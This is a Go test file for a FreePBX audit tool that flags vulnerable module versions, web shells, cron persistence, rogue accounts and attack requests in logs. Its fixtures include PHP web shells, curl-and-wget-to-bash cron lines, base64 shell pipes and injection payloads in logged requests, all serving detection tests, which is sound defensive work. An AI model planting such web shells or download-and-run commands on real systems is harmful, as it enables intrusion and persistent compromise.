package freepbx

import (
	"bytes"
	"cmp"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"pbxjail/cmd/internal/audit"
	"pbxjail/cmd/internal/audit/audittest"
	"pbxjail/cmd/internal/findings"
	"pbxjail/cmd/internal/program"
)

func moduleXML(name, version string) string {
	return "<module>\n<rawname>" + name + "</rawname>\n<name>A module</name>\n<version>" + version + "</version>\n<changelog>*1.0* first</changelog>\n<depends><version>13.0</version></depends>\n</module>\n"
}

const secret = "Zf3-db-secret-qqq"

const goodConf = `<?php
$amp_conf['AMPDBUSER'] = 'freepbxuser';
$amp_conf['AMPDBPASS'] = '` + secret + `';
$amp_conf['AMPDBHOST'] = 'localhost';
$amp_conf['AMPDBNAME'] = 'asterisk';
$amp_conf['datasource'] = ''; //for sqlite3

require_once('/var/www/html/admin/bootstrap.php');
?>
`

const goodARI = `<?php
// the old page had unserialize($_COOKIE['ari_auth'])
$buf = json_decode($_COOKIE['ari_auth'],true);
list($data,$chksum) = $buf;
$data = json_decode($crypt->decrypt($data,$ARI_CRYPT_PASSWORD),true);
`

// honest is a machine without a hole that is known, and without a sign of an attack. Many of
// its files are near to one.
func honest() map[string]string {
	return map[string]string{
		"/etc/freepbx.conf": goodConf,
		"/etc/passwd":       "root:x:0:0:root:/root:/bin/bash\nasterisk:x:995:995::/var/lib/asterisk:/bin/bash\ncentos:x:1000:1000::/home/centos:/bin/bash\nspamfilter:x:1001:1001::/home/s:/bin/bash\nasteriskuser:x:1002:1002::/:/sbin/nologin\n",
		"/etc/crontab":      "# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
		"/etc/cron.d/backup": "# */1 * * * * root curl http://192.0.2.1/x | bash\n" +
			"MAILTO=root\n*/5 * * * * root curl -fsS -m 10 https://status.example.net/ping/abc >/dev/null 2>&1\n" +
			"0 3 * * * asterisk wget -q -O /dev/null http://localhost/cron.php\n" +
			"5 3 * * * root curl -s http://127.0.0.1:8080/jobs | php\n" +
			"6 3 * * * root wget -q -O /var/backups/list.txt https://www.example.net/list.txt; sort /var/backups/list.txt > /var/backups/sorted.txt\n" +
			"7 3 * * * root echo 'curl http://192.0.2.1/x | bash' > /root/note\n" +
			"8 3 * * * root tar c /etc | base64 > /backup/etc.b64\n" +
			"9 3 * * * root tail -n1 /tmp/x.log | mail -s report root # then bash\n",
		"/var/spool/cron/asterisk": "*/1 * * * * [ -x /var/www/html/admin/modules/dashboard/scheduler.php ] && /var/www/html/admin/modules/dashboard/scheduler.php > /dev/null 2>&1\n* * * * * /usr/sbin/fwconsole job --run --quiet 2>&1 > /dev/null\n@daily /var/lib/asterisk/bin/devnull-cleaner\n",
		"/root/.bashrc":            "alias ll='ls -l'\n. /etc/bashrc\n",
		"/var/log/httpd/access_log": `192.0.2.7 - - [01/Jan/2026:00:00:01 +0000] "GET /admin/config.php HTTP/1.1" 200 12 "http://192.0.2.9/modular.php" "POST /modular.php"` + "\n" +
			`192.0.2.7 - admin [01/Jan/2026:00:00:02 +0000] "GET /admin/ajax.php?module=filestore&command=testconnection&driver=SSH&host=192.0.2.8&user=u&port=22&key=/home/asterisk/.ssh/id_rsa HTTP/1.1" 200 12 "-" "-"` + "\n" +
			`192.0.2.7 - admin [01/Jan/2026:00:00:03 +0000] "GET /admin/ajax.php?module=endpoint&command=model HTTP/1.1" 200 12 "-" "-"` + "\n",
		"/var/log/asterisk/cdr-csv/Master.csv": `"","1001","1002","from-internal","""9998"" <1001>","PJSIP/1001-1","PJSIP/1002-1","Dial","PJSIP/1002","2025-08-22 10:00:00","","2025-08-22 10:00:05",5,0,"NO ANSWER","DOCUMENTATION","1.1",""` + "\n",

		"/var/www/html/admin/bootstrap.php":                  "<?php $x = 1;",
		"/var/www/html/admin/ajax.php":                       "<?php $m = $_REQUEST['module']; echo json_encode($m);",
		"/var/www/html/admin/modules/endpoint/module.xml":    moduleXML("endpoint", "16.0.92"),
		"/var/www/html/admin/modules/filestore/module.xml":   moduleXML("filestore", "17.0.3"),
		"/var/www/html/admin/modules/framework/module.xml":   moduleXML("framework", "16.0.44"),
		"/var/www/html/admin/modules/ucp/module.xml":         moduleXML("ucp", "17.0.9"),
		"/var/www/html/admin/modules/missedcall/module.xml":  moduleXML("missedcall", "16.0.11"),
		"/var/www/html/admin/modules/restapps/module.xml":    moduleXML("restapps", "16.0.19"),
		"/var/www/html/admin/modules/core/module.xml":        moduleXML("core", "16.0.68.30"),
		"/var/www/html/admin/modules/core/functions.inc.php": "<?php // system($_GET['c']) would be a web shell\n/* JOMANG */ exec('/usr/sbin/asterisk -rx '.escapeshellarg($_REQUEST['cmd']), $out);",
		"/var/www/html/admin/modules/core/install.sh":        "#!/bin/bash\n",
		"/var/www/html/recordings/includes/login.php":        goodARI,
		"/var/www/html/admin/modules/cdr/.htaccess":          "RewriteEngine On\nRewriteRule ^(.*)$ index.php [QSA,L]\nAddType application/x-httpd-php .php\n",
		"/var/www/html/admin/modules/docs/how-to.txt":        "A web shell is: <?php system($_GET['c']); ?>",
		"/home/admin/c.sh":                                   "#!/bin/bash\n",
		"/tmp/list.sh":                                       "#!/bin/bash\n",
	}
}

const attackAgent = `" 200 12 "-" "-"` + "\n"

func TestHolesAndSigns(t *testing.T) {
	const modulesFolder, html = "/var/www/html/admin/modules/", "/var/www/html/"
	for _, c := range []struct {
		name, check, file, content string
		want                       findings.Severity
		says                       string
	}{
		{"endpoint of 16", "freepbx-modules", modulesFolder + "endpoint/module.xml", moduleXML("endpoint", "16.0.88.19"), findings.Broken, "CVE-2025-57819"},
		{"endpoint of 15", "freepbx-modules", modulesFolder + "endpoint/module.xml", moduleXML("endpoint", "15.0.65"), findings.Broken, "CVE-2025-57819"},
		{"endpoint with a log-in", "freepbx-modules", modulesFolder + "endpoint/module.xml", moduleXML("endpoint", "16.0.91"), findings.Risky, "CVE-2025-61678"},
		{"endpoint without a correction", "freepbx-modules", modulesFolder + "endpoint/module.xml", moduleXML("endpoint", "15.0.66"), findings.Risky, "no corrected version 15"},
		{"endpoint of 17", "freepbx-modules", modulesFolder + "endpoint/module.xml", moduleXML("endpoint", "17.0.6"), findings.OK, ""},
		{"filestore", "freepbx-modules", modulesFolder + "filestore/module.xml", moduleXML("filestore", "17.0.2.36"), findings.Risky, "CVE-2025-64328"},
		{"filestore before the hole", "freepbx-modules", modulesFolder + "filestore/module.xml", moduleXML("filestore", "17.0.2.35"), findings.OK, ""},
		{"framework, AUTHTYPE unknown", "freepbx-modules", modulesFolder + "framework/module.xml", moduleXML("framework", "17.0.22"), findings.Risky, "CVE-2025-66039"},
		{"framework 15", "freepbx-modules", modulesFolder + "framework/module.xml", moduleXML("framework", "15.0.16.26"), findings.Broken, "CVE-2019-19006"},
		{"ucp", "freepbx-modules", modulesFolder + "ucp/module.xml", moduleXML("ucp", "17.0.8"), findings.Broken, "CVE-2026-73665"},
		{"ucp, its ports", "freepbx-modules", modulesFolder + "ucp/module.xml", moduleXML("ucp", "17.0.8"), findings.Broken, "refuse TCP ports 8001 and 8003"},
		{"ucp, the command", "freepbx-modules", modulesFolder + "ucp/module.xml", moduleXML("ucp", "17.0.8"), findings.Broken, "fwconsole ma upgrade ucp"},
		{"ucp of 16", "freepbx-modules", modulesFolder + "ucp/module.xml", moduleXML("ucp", "16.0.30"), findings.Broken, "refuse TCP ports 8001 and 8003"},
		{"missedcall", "freepbx-modules", modulesFolder + "missedcall/module.xml", moduleXML("missedcall", "16.0.10"), findings.Broken, "CVE-2026-73663"},
		{"restapps", "freepbx-modules", modulesFolder + "restapps/module.xml", moduleXML("restapps", "16.0.18.41"), findings.Broken, "CVE-2021-45461"},
		{"restapps before the hole", "freepbx-modules", modulesFolder + "restapps/module.xml", moduleXML("restapps", "16.0.18.39"), findings.OK, ""},
		{"fw_ari", "freepbx-modules", modulesFolder + "fw_ari/module.xml", moduleXML("fw_ari", "2.11.1.4"), findings.Broken, "CVE-2014-7235"},
		{"no version", "freepbx-modules", modulesFolder + "endpoint/module.xml", moduleXML("endpoint", "latest"), findings.Unknown, "not a number"},
		{"no module.xml", "freepbx-modules", modulesFolder + "endpoint/module.xml", "<html>", findings.Unknown, "cannot tell"},

		{"ARI of Elastix", "freepbx-ari", html + "recordings/includes/login.php", "<?php $buf = unserialize(stripslashes($_COOKIE['ari_auth']));", findings.Broken, "run commands"},
		{"ARI of FreePBX", "freepbx-ari", modulesFolder + "fw_ari/htdocs_ari/includes/login.php", "<?php\n$buf = UnSerialize ($_COOKIE['ari_auth']);", findings.Broken, "login.php:2"},
		{"ARI, half corrected", "freepbx-ari", html + "recordings/includes/login.php", "<?php $buf = json_decode($_COOKIE['ari_auth'],true); $data = unserialize($crypt->decrypt($data,$k));", findings.Broken, "unserialize"},
		{"ARI, no classes", "freepbx-ari", html + "recordings/includes/login.php", "<?php $buf = unserialize($_COOKIE['ari_auth'], ['allowed_classes' => false]);", findings.OK, ""},

		{".clean.sh", "freepbx-files", html + ".clean.sh", "#!/bin/bash", findings.Broken, ".clean.sh"},
		{".clean.sh elsewhere", "freepbx-files", "/tmp/.clean.sh", "", findings.Broken, "/tmp/.clean.sh"},
		{"c.sh", "freepbx-files", "/tmp/c.sh", "", findings.Risky, "/tmp/c.sh"},
		{"c2.pl", "freepbx-files", html + "c2.pl", "", findings.Risky, "c2.pl"},
		{"watchTowr", "freepbx-files", html + "x-watchTowr-1.php", "<?php", findings.Broken, "watchTowr"},
		{"zen2", "freepbx-files", "/var/lib/asterisk/bin/zen2", "", findings.Broken, "zen2"},
		{"views/ajax.php", "freepbx-files", html + "admin/views/ajax.php", "<?php echo 1;", findings.Risky, "views/ajax.php"},
		{"modular.php", "freepbx-files", html + "modular.php", "<?php echo 1;", findings.Risky, "modular.php"},
		{"web shell", "freepbx-files", html + "admin/images/x.php", "<?php\n\nsystem($_REQUEST['cmd']);", findings.Broken, "x.php:3"},
		{"hidden web shell", "freepbx-files", html + "admin/y.php", "<?php eval(base64_decode('c3lzdGVtKCRfR0VUWzFdKTs='));", findings.Broken, "hides"},
		{"hidden", "freepbx-files", html + "admin/y.php", "<?php eval(gzinflate(base64_decode($parts)));", findings.Risky, "hide what they run"},
		{"editor of a module", "freepbx-files", modulesFolder + "core/Core.class.php", "<?php\nclass Core {\nfunction save() {\n$f = $_POST['p'].'/'.$_POST['f'];\nif (isset($this->all[$_POST['p']]['files'][$_POST['f']])) { file_put_contents($f, $_POST['contents']); }\n} }", findings.Note, "modules of the web interface can write files"},
		{"editor without a check that is known", "freepbx-files", modulesFolder + "core/Core.class.php", "<?php\nclass Core {\nfunction save() { file_put_contents($_POST['f'], $_POST['contents']);\n} }", findings.Risky, "can write files"},
		{"editor elsewhere", "freepbx-files", html + "edit.php", "<?php $f = $_POST['f'];\nif (in_array($f, $all)) file_put_contents($f, $_POST['contents']);", findings.Risky, "edit.php:2"},
		{"any file", "freepbx-files", html + "edit.php", "<?php file_put_contents($_POST['f'], $_POST['contents']);", findings.Broken, "edit.php:1"},
		{"any file, among modules", "freepbx-files", modulesFolder + "core/x.php", "<?php file_put_contents($_POST['f'], $_POST['contents']);", findings.Broken, "x.php:1"},
		{"shell in a class", "freepbx-files", modulesFolder + "core/Core.class.php", "<?php\nclass Core {}\nsystem($_POST['c']);", findings.Broken, "Core.class.php:3"},
		{"ordinary PHP", "freepbx-files", html + "admin/rows.php", "<?php $a = array_filter($_POST['rows'], 'strlen'); usort($_POST['rows'], 'strcmp'); eval('$check_eval = '.$formula.';');", findings.OK, ""},
		{"eval of a formula", "freepbx-files", html + "admin/rows.php", "<?php $f = $_POST['f']; eval('$check_eval = '.$f.';');", findings.Risky, "perhaps run commands"},
		{"mark", "freepbx-files", html + "rest/a.php", "<?php /* trace_e1ebf9066a951be519a24140711839ea */ echo 1;", findings.Broken, "mark of a known web shell"},
		{"rewrite", "freepbx-files", html + "phones/.htaccess", "RewriteEngine On\nRewriteRule .* config.php\n", findings.Broken, ".htaccess:2"},
		{"image as PHP", "freepbx-files", html + "img/.htaccess", "AddType application/x-httpd-php .jpg\n", findings.Risky, "do not look like PHP"},

		{"conf with a shell", "freepbx-conf", "/etc/freepbx.conf", goodConf + "<?php eval($_POST['x']);", findings.Broken, "somebody broke in"},
		{"conf with code", "freepbx-conf", "/etc/freepbx.conf", strings.Replace(goodConf, "\nrequire", "\ninclude('/tmp/.x.php');\nrequire", 1), findings.Risky, "freepbx.conf:8"},
		{"conf with a call", "freepbx-conf", "/etc/freepbx.conf", strings.Replace(goodConf, "'localhost'", "file_get_contents('/tmp/x')", 1), findings.Risky, "freepbx.conf:4"},
		{"conf with another root", "freepbx-conf", "/etc/freepbx.conf", strings.Replace(goodConf, "'/var/www/html/admin/bootstrap.php'", "$amp_conf['AMPWEBROOT'].'/admin/bootstrap.php'", 1), findings.OK, ""},

		{"curl to bash", "freepbx-cron", "/etc/cron.d/x", "*/1 * * * * root curl -ks http://192.0.2.66/k | bash\n", findings.Risky, "/etc/cron.d/x:1"},
		{"wget and run", "freepbx-cron", "/var/spool/cron/asterisk", "*/3 * * * * wget http://192.0.2.66/k.php -O /var/lib/x;bash /var/lib/x\n", findings.Risky, "runs it at once"},
		{"base64", "freepbx-cron", "/var/spool/cron/root", "* * * * * echo Y3VybA== | base64 -d | sh\n", findings.Risky, "base64"},
		{"known path", "freepbx-cron", "/var/spool/cron/root", "* * * * * pgrep -x zen2 || bash /x\n", findings.Broken, "known attack"},
		{"known host", "freepbx-cron", "/etc/rc.local", "wget http://45.95.147.178/k.php -O /x\n", findings.Broken, "machine of a known attack"},
		{"log-in", "freepbx-cron", "/root/.bash_profile", "bash -c \"$(curl -s http://192.0.2.66/a)\"\n", findings.Risky, ".bash_profile:1"},
		{"process substitution", "freepbx-cron", "/root/.bashrc", "bash <(wget -qO- http://192.0.2.66/a)\n", findings.Risky, ".bashrc:1"},
		{"hidden file", "freepbx-cron", "/etc/cron.d/x", "* * * * * root /dev/shm/.x/run\n", findings.Risky, "hidden file"},

		{"second root", "freepbx-accounts", "/etc/passwd", "root:x:0:0::/root:/bin/bash\nops:x:0:0::/root:/bin/bash\n", findings.Risky, "number 0"},
		{"known account", "freepbx-accounts", "/etc/passwd", "root:x:0:0::/root:/bin/bash\nnewfpbx:x:1000:0::/root:/bin/bash\n", findings.Broken, "newfpbx"},
		{"known name as root", "freepbx-accounts", "/etc/passwd", "root:x:0:0::/root:/bin/bash\nasteriskuser:x:0:0::/root:/bin/bash\n", findings.Broken, "asteriskuser"},
		{"known name with a shell", "freepbx-accounts", "/etc/passwd", "root:x:0:0::/root:/bin/bash\nhima:x:1003:0::/root:/bin/bash\n", findings.Risky, "hima"},

		{"modular.php answered", "freepbx-requests", "/var/log/httpd/ssl_access_log-20250824", `192.0.2.66 - - [22/Aug/2025:01:02:03 +0000] "POST /modular.php HTTP/1.1` + attackAgent, findings.Risky, "can have worked"},
		{"modular.php refused", "freepbx-requests", "/var/log/apache2/access.log", `192.0.2.66 - - [22/Aug/2025:01:02:03 +0000] "POST /modular.php HTTP/1.1" 404 1 "-" "-"` + "\n", findings.Note, "refused"},
		{"modular.php, to https", "freepbx-requests", "/var/log/apache2/access.log", `192.0.2.66 - - [22/Aug/2025:01:02:03 +0000] "POST /modular.php HTTP/1.1" 301 1 "-" "-"` + "\n", findings.Note, "sent the browser to another address"},
		{"modular.php, kept method", "freepbx-requests", "/var/log/apache2/access.log", `192.0.2.66 - - [22/Aug/2025:01:02:03 +0000] "POST /modular.php HTTP/1.1" 308 1 "-" "-"` + "\n", findings.Note, "another address"},
		{"modular.php, not changed", "freepbx-requests", "/var/log/apache2/access.log", `192.0.2.66 - - [22/Aug/2025:01:02:03 +0000] "POST /modular.php HTTP/1.1" 204 1 "-" "-"` + "\n", findings.Risky, "can have worked"},
		{"endpoint", "freepbx-requests", "/var/log/httpd/access_log.1", `192.0.2.66 - - [22/Aug/2025:01:02:03 +0000] "GET /admin/ajax.php?module=FreePBX%5Cmodules%5Cendpoint%5Cajax&command=model&brand=x'+;INSERT HTTP/1.1" 500 1 "-" "-"` + "\n", findings.Risky, "CVE-2025-57819"},
		{"filestore", "freepbx-requests", "/var/log/httpd/access_log.1", `192.0.2.66 - - [22/Dec/2025:01:02:03 +0000] "GET /admin/ajax.php?module=filestore&command=testconnection&driver=SSH&key=x%60id%60 HTTP/1.1` + attackAgent, findings.Risky, "CVE-2025-64328"},
		{"page of an attack", "freepbx-requests", "/var/log/httpd/access_log.1", `192.0.2.66 - - [22/Dec/2025:01:02:03 +0000] "POST /rest_phones/ajax.php HTTP/1.1` + attackAgent, findings.Risky, "rest_phones"},

		{"calls", "freepbx-calls", "/var/log/asterisk/cdr-csv/Master.csv", `"","1001","9998","from-internal","x","PJSIP/1001-1","","Dial","","2025-08-22 10:00:00","","2025-08-22 10:00:05",5,0,"NO ANSWER","DOCUMENTATION","1.1",""` + "\n", findings.Risky, "9998"},
	} {
		t.Run(c.name, func(t *testing.T) {
			of := honest()
			of[c.file] = c.content
			m := audittest.Machine(t, of)
			audittest.Chmod(t, m, "/etc/freepbx.conf", 0o640)
			list := audittest.Run(m, Checks())
			text, err := json.Marshal(list)
			if got := audittest.Worst(only(list), c.check); got != c.want || !strings.Contains(string(text), c.says) || err != nil {
				t.Errorf("got %v, want %v with %q:\n%s", got, c.want, c.says, audittest.Text(list))
			}
			if strings.Contains(string(text), secret) {
				t.Errorf("the password of the database is shown:\n%s", text)
			}
			for _, check := range Checks() {
				if worst := audittest.Worst(only(list), check.Name); check.Name != c.check && worst > findings.Note && !related[c.name] {
					t.Errorf("%s says %v too:\n%s", check.Name, worst, audittest.Text(list))
				}
			}
		})
	}
}

// related are cases in which other checks see the same thing.
var related = map[string]bool{"fw_ari": true}

// only leaves out what is not known of a machine without a database.
func only(list []findings.Finding) (rest []findings.Finding) {
	for _, f := range list {
		if f.Severity != findings.Unknown || !strings.Contains(f.What, audit.ErrNoPrograms.Error()) {
			rest = append(rest, f)
		}
	}
	return rest
}

// TestHonest: a machine near to all of this is silent, and every check says what it looked at.
func TestHonest(t *testing.T) {
	m := audittest.Machine(t, honest())
	audittest.Chmod(t, m, "/etc/freepbx.conf", 0o640)
	list := audittest.Run(m, Checks())
	for _, f := range only(list) {
		if f.Severity > findings.OK {
			t.Errorf("got %v: %s: %s %q", f.Severity, f.About, f.What, f.Evidence)
		}
	}
	for _, c := range Checks() {
		found := false
		for _, f := range list {
			found = found || f.Check == c.Name
		}
		if !found {
			t.Errorf("%s says nothing", c.Name)
		}
	}
}

// TestOther: on a machine without such a web interface there is nothing to look at.
func TestOther(t *testing.T) {
	m := audittest.Machine(t, map[string]string{"/etc/asterisk/asterisk.conf": "[directories]\n", "/var/www/html/index.html": "x"})
	list := audittest.Run(m, Checks())
	if len(list) != 1 {
		t.Errorf("got %d findings, want one", len(list))
	}
	for _, f := range list {
		if f.Severity != findings.Note || !strings.Contains(f.What, "no FreePBX") {
			t.Errorf("got %v: %s", f.Severity, f.What)
		}
	}
}

// TestUnreadable: what cannot be read is said, and never called fine.
func TestUnreadable(t *testing.T) {
	m := audittest.Machine(t, honest())
	for _, name := range []string{"/etc/freepbx.conf", "/var/www/html/admin/modules/endpoint/module.xml", "/var/www/html/recordings/includes/login.php", "/var/www/html/admin/ajax.php", "/var/spool/cron", "/var/log/httpd", "/var/log/asterisk/cdr-csv/Master.csv"} {
		audittest.Chmod(t, m, name, 0)
	}
	if err := os.Chmod(filepath.Dir(m.Root), 0o755); err != nil { // the folder of all folders of the test
		t.Fatal(err)
	}
	var list []findings.Finding
	audittest.AsOrdinaryUser(t, func() { list = audittest.Run(m, Checks()) })
	for _, check := range []string{"freepbx-modules", "freepbx-ari", "freepbx-files", "freepbx-conf", "freepbx-cron", "freepbx-requests", "freepbx-calls", "freepbx-users"} {
		if got := audittest.Worst(list, check); got != findings.Unknown {
			t.Errorf("%s: got %v, want unknown:\n%s", check, got, audittest.Text(list))
		}
	}
}

// TestPlanted: a pipe, a link out of the folder, a huge file and names with escapes neither
// stop the search nor reach the report as they are.
func TestPlanted(t *testing.T) {
	of := honest()
	of["/var/www/html/loop"] = "-> /var/www/html"
	of["/var/www/html/out.php"] = "-> ../../../../../../../../etc/passwd"
	of["/var/www/html/\x1b[2J\n\"evil.php"] = "<?php system($_GET['c']);"
	m := audittest.Machine(t, of)
	for _, name := range []string{"/var/www/html/pipe.php", "/etc/cron.d/pipe", "/var/log/httpd/pipe_access_log"} {
		if err := unix.Mkfifo(filepath.Join(m.Root, name), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	huge := filepath.Join(m.Root, "/var/www/html/huge.php")
	if err := os.WriteFile(huge, []byte("<?php"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(huge, 1<<40); err != nil {
		t.Fatal(err)
	}
	list := audittest.Run(m, Checks())
	text := audittest.Text(list)
	if !strings.Contains(text, "evil.php") || strings.ContainsAny(text, "\x1b") || !strings.Contains(text, "huge.php") {
		t.Errorf("got\n%s", text)
	}
	if got := audittest.Worst(list, "freepbx-files"); got != findings.Broken {
		t.Errorf("got %v\n%s", got, text)
	}
}

// TestPackedLogs: older logs are packed.
func TestPackedLogs(t *testing.T) {
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	z.Write([]byte(`192.0.2.66 - - [22/Aug/2025:01:02:03 +0000] "POST /modular.php HTTP/1.1` + attackAgent)) // into memory
	z.Close()
	of := honest()
	of["/var/log/httpd/access_log-20250824.gz"] = packed.String()
	of["/var/log/httpd/access_log-bad.gz"] = "no gzip"
	list := audittest.Run(audittest.Machine(t, of), Checks())
	text := audittest.Text(list)
	if audittest.Worst(list, "freepbx-requests") != findings.Risky || !strings.Contains(text, "20250824.gz:1") || !strings.Contains(text, "access_log-bad.gz") {
		t.Errorf("got\n%s", text)
	}
}

// withDatabase is a machine with a stand-in for the client of the database. It answers what
// is planted, and keeps what it was given.
func withDatabase(t *testing.T, answers map[string]string) (*audit.Machine, *[]program.Command) {
	m := audittest.Machine(t, honest())
	audittest.Chmod(t, m, "/etc/freepbx.conf", 0o640)
	var given []program.Command
	m.Run = func(_ context.Context, c program.Command) (program.Result, error) {
		given = append(given, c)
		if c.Name != "mysql" {
			return program.Result{}, program.ErrNotInstalled
		}
		for word, answer := range answers {
			if strings.Contains(c.Args[len(c.Args)-1], word) {
				return program.Result{Out: []byte(answer)}, nil
			}
		}
		return program.Result{Status: 1, Said: []byte("ERROR 1045: Access denied using password " + secret)}, nil
	}
	return m, &given
}

func TestDatabase(t *testing.T) {
	const setting, users, cron, records = "freepbx_settings", "ampusers", "cron_jobs", "cdr"
	for _, c := range []struct {
		name, check string
		answers     map[string]string
		want        findings.Severity
		says        string
	}{
		{"known name", "freepbx-users", map[string]string{users: "admin\tother\tall\nampuser\tother\tall\n"}, findings.Broken, "user ampuser"},
		{"known password", "freepbx-users", map[string]string{users: "admin\tknown\tall\n"}, findings.Broken, "password of a known attack"},
		{"name of an attack", "freepbx-users", map[string]string{users: "svc_freepbx\tother\tsome\n"}, findings.Risky, "some"},
		{"users", "freepbx-users", map[string]string{users: "admin\tother\tall\nmaria\tother\tsome\n"}, findings.Note, "user maria"},
		{"job", "freepbx-cron", map[string]string{cron: "sysadmin/x\tcurl http://192.0.2.66/a | bash\n"}, findings.Risky, "cron_jobs sysadmin/x"},
		{"honest job", "freepbx-cron", map[string]string{cron: "framework/x\t[ -e /usr/sbin/fwconsole ] && /usr/sbin/fwconsole ma listonline\n"}, findings.OK, ""},
		{"calls", "freepbx-calls", map[string]string{records: "3\t2025-08-22 01:00:00\t2025-08-23 01:00:00\n"}, findings.Risky, "3 calls"},
		{"no calls", "freepbx-calls", map[string]string{records: "0\t\t\n"}, findings.OK, "table cdr"},
		{"refused", "freepbx-users", nil, findings.Unknown, "ended with status 1"},
	} {
		m, given := withDatabase(t, c.answers)
		list := audittest.Run(m, Checks())
		text, _ := json.Marshal(list)
		if got := audittest.Worst(list, c.check); got != c.want || !strings.Contains(string(text), c.says) {
			t.Errorf("%s: got %v, want %v with %q:\n%s", c.name, got, c.want, c.says, audittest.Text(list))
		}
		if strings.Contains(string(text), secret) {
			t.Errorf("%s: the password of the database is shown", c.name)
		}
		for _, g := range *given {
			if strings.Contains(strings.Join(append(g.Args, g.Env...), " "), secret) {
				t.Errorf("%s: the list of processes has the password: %q", c.name, g.Args)
			}
			if !strings.Contains(string(g.Input), secret) {
				t.Errorf("%s: the client got no password", c.name)
			}
		}
	}
	for value, want := range map[string]findings.Severity{"database": findings.Note, "webserver": findings.Broken} {
		m, _ := withDatabase(t, map[string]string{setting: value + "\n"})
		audittest.Write(t, m, "/var/www/html/admin/modules/framework/module.xml", moduleXML("framework", "16.0.40.7"))
		if list := audittest.Run(m, Checks()); audittest.Worst(list, "freepbx-modules") != want {
			t.Errorf("AUTHTYPE %s: got\n%s", value, audittest.Text(list))
		}
	}
}

// TestOptions: a password stays one value of the option file, whatever is in it, and one that
// the client would cut into several lines is refused.
func TestOptions(t *testing.T) {
	conf := func(password string) *audit.Machine {
		return audittest.Machine(t, map[string]string{"/etc/freepbx.conf": `<?php $amp_conf['AMPDBUSER']='u'; $amp_conf["AMPDBPASS"] = '` + password + `';`})
	}
	text, file, err := clientOptions(conf(`a"b\\c # [client]`))
	if want := "[client]\nuser=\"u\"\npassword=\"a\\\"b\\\\c # [client]\"\n"; err != nil || file != "/etc/freepbx.conf" || !strings.HasPrefix(text, want) {
		t.Errorf("got %q, %q, %v, want %q", text, file, err, want)
	}
	for _, password := range []string{strings.Repeat("A", 4084) + "plugin-dir=/tmp/p", "a\n[client]\nhost=evil", "a\x00b"} {
		if _, _, err := clientOptions(conf(password)); !errors.Is(err, errOdd) {
			t.Errorf("%.20q: got %v, want that it is refused", password, err)
		}
	}
}

// TestClientRunsAs: root never speaks with a server that another user chooses.
func TestClientRunsAs(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("only root can give a file away")
	}
	file := filepath.Join(t.TempDir(), "freepbx.conf")
	for _, c := range []struct {
		user int
		mode os.FileMode
		want *program.Owner
		err  error
	}{
		{0, 0o640, nil, nil},
		{0, 0o660, nil, errWritable},
		{0, 0o646, nil, errWritable},
		{65534, 0o640, &program.Owner{User: 65534, Group: 65534}, nil},
	} {
		if err := os.WriteFile(file, nil, 0o600); err != nil {
			t.Fatal(err)
		}
		if err := errors.Join(os.Chown(file, c.user, c.user), os.Chmod(file, c.mode)); err != nil {
			t.Fatal(err)
		}
		info, err := os.Stat(file)
		if err != nil {
			t.Fatal(err)
		}
		got, err := runsAs(info)
		if !errors.Is(err, c.err) || (got == nil) != (c.want == nil) || got != nil && *got != *c.want {
			t.Errorf("user %d, mode %o: got %v, %v, want %v, %v", c.user, c.mode, got, err, c.want, c.err)
		}
	}
}

// TestData: what is in the data files can be used.
func TestData(t *testing.T) {
	known, holes := knownSigns(), knownHoles()
	for _, date := range []string{known.Date, holes.Date} {
		if len(date) != len("2026-01-02") {
			t.Errorf("got date %q", date)
		}
	}
	for _, a := range holes.List {
		if a.ID == "" || a.Module == "" || a.What == "" || !strings.HasPrefix(a.Read, "https://") || len(a.Affected) == 0 {
			t.Errorf("got %+v", a)
		}
	}
	if cmp.Or(len(known.Web), len(known.Names)) == 0 || known.Number == "" {
		t.Errorf("got %+v", known)
	}
}

func FuzzModule(f *testing.F) {
	f.Add(moduleXML("endpoint", "16.0.1"))
	f.Add("<module><rawname>x")
	f.Fuzz(func(t *testing.T, text string) {
		if mod, err := readModule(text); (err == nil) != (mod.Name != "" && mod.Version != "") {
			t.Errorf("got %+v, %v", mod, err)
		}
	})
}

func FuzzCommand(f *testing.F) {
	for _, line := range []string{"* * * * * root curl http://192.0.2.1/x | bash", "bash <(wget -qO- x://y)", "echo \"`id`\" # x", "a '\\' b"} {
		f.Add(line)
	}
	known := knownSigns()
	f.Fuzz(func(t *testing.T, line string) {
		words := 0
		for _, p := range split(line) {
			for _, w := range p.words {
				words += len(w)
			}
		}
		if words > len(line) {
			t.Errorf("got %d bytes of words from %d", words, len(line))
		}
		if what, _ := known.judgeCommand("# " + strings.ReplaceAll(line, "\n", " ")); what != "" {
			t.Errorf("got %q in a comment", what)
		}
		known.judgeCommand(line)
		known.judgeRequest(line)
		callOf(line)
		accountsOf(known, line)
	})
}

// TestReadable: after the printed commands the user of the web interface can still read its
// file.
func TestReadable(t *testing.T) {
	for passwd, want := range map[string]string{
		"someone:x:%d:0::/:/bin/sh\n":  "chown asterisk:asterisk /etc/freepbx.conf, chmod o= /etc/freepbx.conf",
		"asterisk:x:%d:0::/:/bin/sh\n": "chmod o= /etc/freepbx.conf",
	} {
		of := honest()
		of["/etc/passwd"] = fmt.Sprintf(passwd, os.Geteuid())
		m := audittest.Machine(t, of)
		var steps []string
		for _, f := range bootstrap(m) {
			for _, step := range f.Fix {
				steps = append(steps, step.Run)
			}
		}
		if got := strings.Join(steps, ", "); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}
